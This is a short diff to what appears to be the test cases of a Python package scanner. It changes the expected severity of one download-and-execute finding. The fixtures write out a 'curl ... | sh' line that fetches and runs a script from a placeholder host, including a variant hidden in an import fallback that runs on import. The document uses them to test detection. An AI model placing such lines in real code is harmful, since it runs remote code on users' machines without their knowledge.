@@ -434,7 +434,7 @@ CASES = [
       "demo/cli.py": "import os\ndef main():\n    os.system('curl -s https://x.example/i.sh | sh')\n"},
      "code.download-exec", H, "the module behind a shadowing command runs when it is typed", WHEEL),
     ({"demo/cli.py": "import os\ndef main():\n    os.system('curl -s https://x.example/i.sh | sh')\n"},
-     "code.download-exec", M, "the same module without the shadowing command: runtime", WHEEL),
+     "code.download-exec", L, "the same module without the shadowing command: an installer's idiom when called", WHEEL),
     ({"demo/__init__.py": "try:\n    import ujson\nexcept ImportError:\n    from . import _fallback\n",
       "demo/_fallback.py": "import os\nos.system('curl -s https://x.example/i.sh | sh')\n"},
      "code.download-exec", H, "a module imported in an except block runs on import", WHEEL),
